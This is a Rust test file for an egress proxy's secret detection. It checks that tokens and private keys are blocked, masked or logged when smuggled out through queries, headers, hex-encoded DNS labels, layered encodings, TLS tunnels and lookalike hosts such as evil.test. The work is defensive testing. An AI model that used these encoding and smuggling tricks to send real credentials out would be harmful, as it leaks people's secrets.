//! What must not leave: a credential, wherever it stands and however it is written, unless it goes home.

use crate::support::agent::push;
use crate::support::secrets::{anthropic_key, github_token, npm_token};
use crate::support::*;
use data_encoding::{BASE64, BASE64URL_NOPAD, HEXLOWER};

const HOST: &str = "plain.exeat.test";
pub const URL: &str = "http://plain.exeat.test/";

pub struct Case {
    pub world: World,
    pub origin: Origin,
    pub token: String,
}

impl Case {
    pub fn start() -> Self {
        Self::under(&policy_for(&["host: \"**.exeat.test\""]))
    }

    pub fn under(policy: &str) -> Self {
        let origin = Origin::plain().echo();
        let world = World::start(Setup::under(policy).origin("**.exeat.test", &origin));
        Self { world, origin, token: github_token() }
    }

    /// The request was stopped for the secret, none of which left or was written down.
    #[track_caller]
    pub fn assert_stopped(&self, response: &Response) {
        let refusal = assert_refused(response, "secret_in_request");
        assert!(refusal["rule"].is_string(), "the rule is not named: {refusal}");
        assert!(!response.text().contains(&self.token[4..]), "the answer tells the secret");
        self.assert_kept();
    }

    /// No form of the secret came to the origin, to the journal or on stderr.
    #[track_caller]
    pub fn assert_kept(&self) {
        let bytes = self.origin.bytes();
        let start = &self.token.as_bytes()[..10];
        assert!(!bytes.windows(10).any(|window| window == start), "{}", String::from_utf8_lossy(&bytes));
        assert!(self.origin.requests().is_empty(), "{:#?}", self.origin.requests());
        let journal = std::fs::read_to_string(self.world.path("flows/flows.jsonl")).unwrap_or_default();
        for text in [journal, self.world.stderr()] {
            assert!(!text.contains(&self.token[4..]), "{text}");
        }
    }

    pub fn chunked(&self, size: usize, body: &[u8]) -> Response {
        let agent = self.world.agent();
        let mut wire =
            agent.send(agent.head("POST", URL, "Transfer-Encoding: chunked\r\nContent-Type: text/plain\r\n"));
        for chunk in body.chunks(size) {
            push(&mut wire, format!("{:x}\r\n", chunk.len()).as_bytes());
            push(&mut wire, &[chunk, b"\r\n"].concat());
        }
        push(&mut wire, b"0\r\n\r\n");
        wire.response_to("POST").unwrap()
    }
}

#[test]
fn a_token_in_the_query_is_stopped() {
    let case = Case::start();
    case.assert_stopped(&case.world.agent().get(&format!("{URL}?k={}", case.token)));
    let records = case.world.records(1);
    let finding = records[0].0.pointer("/findings/0").unwrap();
    assert_eq!(
        (finding["surface"].as_str(), finding["disposition"].as_str()),
        (Some("query"), Some("blocked")),
        "{finding}"
    );
    assert_eq!(finding["length"], 40, "{finding}");
    assert_eq!(finding["fingerprint"].as_str().map(str::len), Some(16), "{finding}");
}

#[test]
fn a_token_in_the_path_is_stopped_before_dns() {
    let nameserver = Nameserver::always(&["127.0.0.1"]);
    let world = World::start(Setup::new().nameserver(&nameserver));
    let token = github_token();
    assert_refused(&world.agent().get(&format!("http://some.exeat.test/x/{token}/y")), "secret_in_request");
    assert_eq!(nameserver.asked(), []);
}

#[test]
fn a_token_in_a_header_is_stopped() {
    let case = Case::start();
    for name in ["X-Data", "Cookie", "User-Agent", "Authorization", "Referer"] {
        let response = case.world.agent().request("GET", URL, &format!("{name}: a={}\r\n", case.token), b"");
        case.assert_stopped(&response);
    }
}

#[test]
fn a_token_in_basic_credentials_for_the_origin_is_stopped() {
    let case = Case::start();
    let value = BASE64.encode(format!("x-access-token:{}", case.token).as_bytes());
    case.assert_stopped(&case.world.agent().request("GET", URL, &format!("Authorization: Basic {value}\r\n"), b""));
}

#[test]
fn a_token_in_a_label_of_the_host_is_stopped_before_dns() {
    let nameserver = Nameserver::always(&["127.0.0.1"]);
    let world = World::start(Setup::new().nameserver(&nameserver));
    // Names know no case, and no underscores in most places: hexadecimal carries any secret.
    let token = github_token();
    let hex = HEXLOWER.encode(token.as_bytes());
    let name = format!("{}.{}.exeat.test", &hex[..40], &hex[40..]);
    let plain = world.agent().get(&format!("http://{name}/"));
    let tunnel = world.agent().refused(&format!("{name}:443"));
    for response in [plain, tunnel] {
        assert_refused(&response, "secret_in_request");
    }
    assert_eq!(nameserver.asked(), []);
}

#[test]
fn a_percent_encoded_token_is_stopped() {
    let case = Case::start();
    let once: String = case.token.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let twice = once.replace('%', "%25");
    for encoded in [once, twice] {
        case.assert_stopped(&case.world.agent().get(&format!("{URL}?k={encoded}")));
    }
}

#[test]
fn an_encoded_token_in_the_query_or_a_header_is_stopped() {
    let case = Case::start();
    let forms = [
        BASE64.encode(case.token.as_bytes()),
        BASE64URL_NOPAD.encode(format!("prefix {}", case.token).as_bytes()),
        HEXLOWER.encode(case.token.as_bytes()),
        BASE64.encode(BASE64.encode(case.token.as_bytes()).as_bytes()),
    ];
    for form in forms {
        case.assert_stopped(&case.world.agent().request("GET", URL, &format!("X-Data: {form}\r\n"), b""));
        let query = form.replace('+', "%2B").replace('/', "%2F").replace('=', "%3D");
        case.assert_stopped(&case.world.agent().get(&format!("{URL}?d={query}")));
    }
}

#[test]
fn tokens_of_other_kinds_are_stopped_too() {
    let case = Case::start();
    for token in [npm_token(), anthropic_key()] {
        let response = case.world.agent().post(URL, format!("key = {token}").as_bytes());
        assert_refused(&response, "secret_in_request");
    }
    let pem = format!(
        "-----BEGIN {} KEY-----\n{}\n-----END {} KEY-----\n",
        "RSA PRIVATE",
        "MIIEowIBAAKCAQEA".repeat(40),
        "RSA PRIVATE"
    );
    assert_refused(&case.world.agent().post(URL, pem.as_bytes()), "secret_in_request");
    assert!(case.origin.requests().is_empty());
}

#[test]
fn a_token_inside_an_opened_tunnel_is_stopped() {
    let origin = Origin::tls().echo();
    let world = World::start(Setup::new().origin("tls.exeat.test", &origin));
    let token = github_token();
    let mut tls = world.agent().https("tls.exeat.test");
    assert_refused(&tls.get("tls.exeat.test", &format!("/?k={token}")), "secret_in_request");
    let mut tls = world.agent().https("tls.exeat.test");
    assert_refused(&tls.post("tls.exeat.test", "/", token.as_bytes()), "secret_in_request");
    assert!(origin.requests().is_empty());
    assert!(!String::from_utf8_lossy(&origin.bytes()).contains(&token[..10]));
}

fn home() -> (World, Origin) {
    let origin = Origin::tls().echo();
    let setup = Setup::allowing(&["host: api.github.com"]).origin("api.github.com", &origin);
    (World::start(setup), origin)
}

#[test]
fn a_credential_goes_home_where_it_authenticates() {
    let (world, origin) = home();
    let token = github_token();
    let field = format!("Authorization: Bearer {token}\r\n");
    assert_eq!(world.agent().https("api.github.com").ask("GET", "api.github.com", "/user", &field, b"").status, 200);
    assert_eq!(origin.only_request().field("authorization"), Some(format!("Bearer {token}").as_str()));
    let text = world.into_records().iter().map(|record| record.0.to_string()).collect::<String>();
    assert!(!text.contains(&token[4..]), "{text}");
    assert!(text.contains("credential_used"), "{text}");
}

#[test]
fn a_credential_as_content_is_stopped_even_at_home() {
    let (world, origin) = home();
    let token = github_token();
    let mut tls = world.agent().https("api.github.com");
    let body = format!("{{\"body\": \"my token is {token}\"}}");
    assert_refused(&tls.post("api.github.com", "/repos/a/b/issues", body.as_bytes()), "secret_in_request");
    assert!(origin.requests().is_empty());
}

#[test]
fn a_name_that_looks_like_home_is_not() {
    let origin = Origin::tls().echo();
    let setup = Setup::allowing(&["host: \"**\""]).origin("**", &origin);
    let world = World::start(setup);
    let field = format!("Authorization: Bearer {}\r\n", github_token());
    for host in ["api.github.com.evil.test", "apigithub.com", "github.com.evil.test"] {
        let response = world.agent().https(host).ask("GET", host, "/", &field, b"");
        assert_refused(&response, "secret_in_request");
    }
    assert!(origin.requests().is_empty());
}

#[test]
fn a_permit_of_the_policy_makes_one_more_home() {
    let case = Case::start();
    let field = format!("Authorization: Bearer {}\r\n", case.token);
    let refusal = assert_refused(&case.world.agent().request("GET", URL, &field, b""), "secret_in_request");
    let rule = refusal["rule"].as_str().unwrap();
    let policy = policy_for(&["host: \"**.exeat.test\""])
        + &format!("secrets: {{permit: [{{rule: {rule}, hosts: [\"{HOST}\"]}}]}}");
    let permitted = Case::under(&policy);
    assert_eq!(permitted.world.agent().request("GET", URL, &field, b"").status, 200);
    assert_refused(
        &permitted.world.agent().request("GET", "http://other.exeat.test/", &field, b""),
        "secret_in_request",
    );
}

#[test]
fn a_known_value_is_stopped_in_every_encoding() {
    let value = "correct-horse-battery-staple-42";
    let origin = Origin::plain().echo();
    let policy = policy_for(&["host: \"**.exeat.test\""]) + "secrets: {known: [\"env:DB_PASSWORD\"]}";
    let world = World::start(Setup::under(&policy).origin(HOST, &origin).env("DB_PASSWORD", value));
    for text in [value.to_owned(), BASE64.encode(value.as_bytes()), HEXLOWER.encode(value.as_bytes())] {
        assert_refused(&world.agent().post(URL, format!("a={text}&b=c").as_bytes()), "secret_in_request");
    }
    assert!(!world.stderr().contains(value));
    assert!(origin.requests().is_empty());
}

#[test]
fn observe_tells_of_a_secret_and_lets_it_pass() {
    let policy = policy_for(&["host: \"**.exeat.test\""]) + "secrets: {action: observe}";
    let case = Case::under(&policy);
    assert_eq!(case.world.agent().post(URL, case.token.as_bytes()).status, 200);
    let records = case.world.records(1);
    assert_eq!(
        records[0].0.pointer("/findings/0/disposition").and_then(|d| d.as_str()),
        Some("observed"),
        "{records:#?}"
    );
}

#[test]
fn mask_replaces_a_secret_by_as_many_bytes() {
    let policy = policy_for(&["host: \"**.exeat.test\""]) + "secrets: {action: mask}";
    let case = Case::under(&policy);
    let body = format!("before {} after", case.token);
    let fields = format!("Content-Type: text/plain\r\nContent-Length: {}\r\n", body.len());
    assert_eq!(case.world.agent().request("POST", URL, &fields, body.as_bytes()).status, 200);
    let got = case.origin.only_request().text();
    assert_eq!((got.len(), got.starts_with("before "), got.ends_with(" after")), (body.len(), true, true), "{got}");
    assert!(!got.contains(&case.token[4..20]), "{got}");
}

#[test]
fn what_only_looks_like_a_secret_passes_byte_for_byte() {
    let case = Case::start();
    let body = format!(
        "commit {} uuid {} sha512-{} data:image/png;base64,{} ghp_short sk-learn npm_config_cache AKIA",
        "3f786850e387550fdab836ed7e6dc881de23001b",
        "018f2c6e-7b1a-7c3d-9e4f-5a6b7c8d9e0f",
        BASE64.encode(&[7; 64]),
        BASE64.encode(&(0..=255).collect::<Vec<u8>>()),
    );
    assert_eq!(case.world.agent().post(URL, body.as_bytes()).status, 200);
    assert_eq!(case.origin.only_request().text(), body);
}

#[test]
fn a_secret_in_a_refused_url_is_not_written_down() {
    let case = Case::start();
    let agent = case.world.agent();
    let token = &case.token;
    agent.get(&format!("http://evil.test/{token}?k={token}"));
    agent.request("GET", "http://evil.test/", &format!("Cookie: {token}\r\nAuthorization: Bearer {token}\r\n"), b"");
    agent
        .send(format!("GET http://{token}@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
        .response_to("GET")
        .unwrap();
    agent
        .send(format!("GET http://evil.test/ {token} HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
        .response_to("GET")
        .unwrap();
    case.world.records(4);
    case.assert_kept();
}

/// How long a body takes, whatever is decided about it.
fn scan_time(case: &Case, filler: &[u8], length: usize) -> std::time::Duration {
    let body: Vec<u8> = filler.iter().copied().cycle().take(length).collect();
    let agent = case.world.agent();
    let head = agent.head("POST", URL, &format!("Content-Length: {length}\r\n"));
    let began = std::time::Instant::now();
    let mut wire = agent.dial();
    wire.stream.set_read_timeout(Some(DEADLINE * 5)).unwrap();
    wire.stream.set_write_timeout(Some(DEADLINE * 5)).unwrap();
    push(&mut wire, &[head.as_bytes(), &body].concat());
    let _ = wire.response_to("POST");
    began.elapsed()
}

/// ReDoS and its kin (T51): a body of near misses must not cost more than its length.
#[test]
fn bodies_made_to_be_slow_are_scanned_in_time_with_their_length() {
    let case = Case::start();
    let fillers: [&[u8]; 16] = [
        b"w",
        b"0",
        b"A",
        b"=",
        b"%",
        b"%25",
        b"%67",
        b"\\u0067",
        b"&#103;",
        b"ghp_",
        b"-----BEGIN ",
        b"eyJ",
        b"Z2hw",
        b"{\"a\":",
        b"password=",
        b"\xff\xfe",
    ];
    let mut slow = Vec::new();
    for filler in fillers {
        let (short, long) = (scan_time(&case, filler, 512 << 10), scan_time(&case, filler, 4 << 20));
        // Eight times the length: eight times the time, and room for a busy machine.
        if long > short * 20 + std::time::Duration::from_secs(3) {
            slow.push(format!("{:?}: 512 KiB {short:?}, 4 MiB {long:?}", String::from_utf8_lossy(filler)));
        }
        eprintln!("{:?}: 512 KiB {short:?}, 4 MiB {long:?}", String::from_utf8_lossy(filler));
    }
    assert!(slow.is_empty(), "{slow:#?}");
}
